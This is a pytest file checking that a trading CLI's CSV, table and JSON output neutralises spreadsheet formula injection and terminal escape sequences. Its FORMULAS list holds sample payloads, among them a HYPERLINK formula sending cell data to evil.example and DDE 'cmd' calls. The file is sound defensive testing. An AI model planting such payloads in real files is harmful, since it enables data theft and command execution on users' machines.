"""What tradescribe prints cannot hurt its reader: CSV a spreadsheet will not evaluate,
tables without the escape sequences or markup a bot put in its event text."""

from __future__ import annotations

import csv
import io
import json
from functools import partial
from pathlib import Path

import pytest

from contracts import AsyncPublisher
from tests.helpers import count, running_worker, tradescribe, wait_for
from worker.settings import Settings

# Wide enough that tables neither wrap nor cut the texts the tests look for.
tradescribe_400 = partial(tradescribe, columns=400)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
ESCAPES = "title \x1b]0;pwned\x07 red \x1b[31mRED\x1b[0m csi \x9b2J bell \x07 [bold]markup[/bold]"


@pytest.fixture
async def db(settings: Settings) -> Path:
    """Journal entries carrying formulas and escape sequences, and a trade lost -103.5."""
    async with (
        running_worker(settings),
        AsyncPublisher(settings.redis_url, source="bot-x", stream=settings.stream) as pub,
    ):
        for text in [*FORMULAS, ESCAPES]:
            await pub.publish("journal.entry", text=text)
        await pub.publish("trade.opened", trade_id="L1", symbol="BTCUSDT", side="buy",
                          quantity="1", entry_price="203.5")  # fmt: skip
        await pub.publish("trade.closed", trade_id="L1", exit_price="100")
        total = len(FORMULAS) + 3
        await wait_for(lambda: count(settings.db, "events") == total, what="events committed")
    return settings.db


async def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db: Path) -> None:
    out = tradescribe_400("query", "journal", "--db", db, "--csv")
    assert out.returncode == 0, out.stderr
    texts = {row["text"] for row in csv.DictReader(io.StringIO(out.stdout))}
    assert {"'" + f for f in FORMULAS} <= texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


async def test_csv_keeps_negative_numbers_as_numbers(db: Path) -> None:
    out = tradescribe_400("query", "history", "--db", db, "--csv")
    assert out.returncode == 0, out.stderr
    (row,) = csv.DictReader(io.StringIO(out.stdout))
    assert row["realized_pnl"] == "-103.5"


async def test_tables_show_event_text_without_escape_sequences_or_markup(db: Path) -> None:
    out = tradescribe_400("query", "journal", "--db", db)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout
    assert "\x9b" not in out.stdout
    assert "\x07" not in out.stdout
    assert "RED" in out.stdout
    assert "[bold]markup[/bold]" in out.stdout


async def test_json_output_escapes_the_control_characters_json_leaves_raw(db: Path) -> None:
    out = tradescribe_400("query", "journal", "--db", db, "--json")
    assert out.returncode == 0, out.stderr
    assert "\x9b" not in out.stdout
    assert "\x1b" not in out.stdout
    assert ESCAPES in {row["text"] for row in json.loads(out.stdout)["rows"]}  # same data


async def test_dead_letter_list_and_show_strip_escape_sequences(settings: Settings) -> None:
    import redis

    client = redis.Redis.from_url(settings.redis_url)
    async with running_worker(settings):
        client.xadd(settings.stream, {"event": b"\x1b]0;pwned\x07\x1b[2J not json"})
        await wait_for(lambda: count(settings.db, "dead_letters") == 1, what="dead letter")
    client.close()
    listed = tradescribe_400("dlq", "list", "--db", settings.db)
    shown = tradescribe_400("dlq", "show", "1", "--db", settings.db)
    assert listed.returncode == shown.returncode == 0, listed.stderr + shown.stderr
    assert "Invalid JSON" in listed.stdout
    assert "pwned" in shown.stdout
    for out in (listed.stdout, shown.stdout):
        assert "\x1b" not in out
        assert "\x07" not in out
